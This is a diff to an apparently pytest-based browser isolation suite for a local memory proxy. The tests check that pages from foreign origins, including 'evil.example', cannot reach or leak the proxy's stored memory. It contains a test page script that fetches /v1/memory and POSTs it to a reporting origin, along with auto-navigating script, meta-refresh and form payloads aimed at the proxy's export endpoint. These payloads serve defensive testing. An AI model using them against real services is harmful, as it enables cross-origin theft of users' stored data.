@@ -10,9 +10,11 @@ import pytest
 import pytest_asyncio
 
 from tests.isolation.browser import Findings, PageServer, needs_browser, opened, page_server, report_of
+from tests.support.answers import Answer
 from tests.support.folders import Folders
 from tests.support.proxy import Proxy, base_config, merged, running_proxy
 from tests.support.upstream import ScriptedUpstream, scripted_upstream
+from tests.support.waiting import eventually
 
 pytestmark = [
     needs_browser,
@@ -32,6 +34,13 @@ class Home:
     memory_id: str
     friend: PageServer
     """Serves the page whose origin the proxy was told to trust."""
+
+    async def refused(self) -> int:
+        """How many requests the proxy has refused so far (403)."""
+        async with self.proxy.client(None) as client:
+            lines = (await client.get("/metrics")).text.splitlines()
+        counts = [line for line in lines if line.startswith("memproxy_requests_total") and 'status="403"' in line]
+        return sum(int(float(line.rpartition(" ")[2])) for line in counts)
 
     async def holds(self) -> list[Any]:
         """Everything that the person can see."""
@@ -129,6 +138,59 @@ async def test_a_page_whose_name_comes_to_mean_this_machine_does_nothing(
     assert all(SECRET not in one["text"] for one in found)
     statuses = {one["outcome"] for one in found if one["outcome"].startswith("status")}
     assert statuses == {"status 403"}, found
+
+
+def scripted_page(report: str) -> Answer:
+    """A page of the upstream's, which reads its origin's memory and tells ``report`` of it, if its script runs."""
+    page = f"""<!doctype html><title>An upstream's page</title><script>
+    fetch("/v1/memory").then((answer) => answer.text()).then((text) => fetch("{report}/report", {{method: "POST",
+      mode: "no-cors", body: JSON.stringify([{{what: "a page", outcome: "its script ran", text}}])}}));
+    </script><noscript><img src="{report}/shown"></noscript>"""
+    return Answer([page.encode()], headers=[("content-type", "text/html")])
+
+
+NAVIGATIONS = {
+    "a script": "<script>location = '%s'</script>",
+    "a refreshing page": "<meta http-equiv=refresh content='0;url=%s'>",
+    "a form": "<form action='%s'><input name=a></form><script>document.forms[0].submit()</script>",
+    "a form that posts": "<form action='%s' method=post></form><script>document.forms[0].submit()</script>",
+}
+LED = [*((way, "/v1/page") for way in NAVIGATIONS), ("a script", "/v1/memory/export")]
+
+
+@pytest.mark.parametrize("name", ["127.0.0.1", "evil.example"])
+@pytest.mark.parametrize(("way", "path"), LED)
+async def test_a_page_that_leads_the_browser_to_what_is_no_page_of_ours_gets_nothing_there(
+    home: Home, stranger: PageServer, tmp_path: Path, name: str, way: str, path: str
+) -> None:
+    home.upstream.reset()
+    home.upstream.default = lambda _received: scripted_page(stranger.origin)
+    stranger.page = (NAVIGATIONS[way] % (home.proxy.root_url + path)).encode()
+    before = await home.refused()
+
+    async def over() -> bool:
+        return await home.refused() > before or bool(home.upstream.received) or not stranger.reports.empty()
+
+    with opened(f"http://{name}:{stranger.port}/page", tmp_path / "profile"):
+        await eventually(over, 60, what="the browser went there")
+    assert await home.refused() == before + 1
+    assert home.upstream.received == []
+
+
+@pytest.mark.parametrize("through", ["an address that is typed", "a server that redirects"])
+async def test_a_page_of_the_upstreams_runs_no_script(
+    home: Home, stranger: PageServer, tmp_path: Path, through: str
+) -> None:
+    """Where browsers say that a person went there, the page is shown; its script would be of our origin."""
+    home.upstream.reset()
+    home.upstream.default = lambda _received: scripted_page(stranger.origin)
+    address = stranger.elsewhere = f"{home.proxy.root_url}/v1/page"
+    if through == "a server that redirects":
+        address = f"{stranger.origin}/elsewhere"
+    assert await told(stranger, address, tmp_path) == [
+        {"what": "a page", "outcome": "shown without its script", "text": ""}
+    ]
+    assert [one.target for one in home.upstream.received] == ["/v1/page"]
 
 
 async def test_the_same_page_does_all_of_it_where_it_is_trusted(home: Home, tmp_path: Path) -> None:
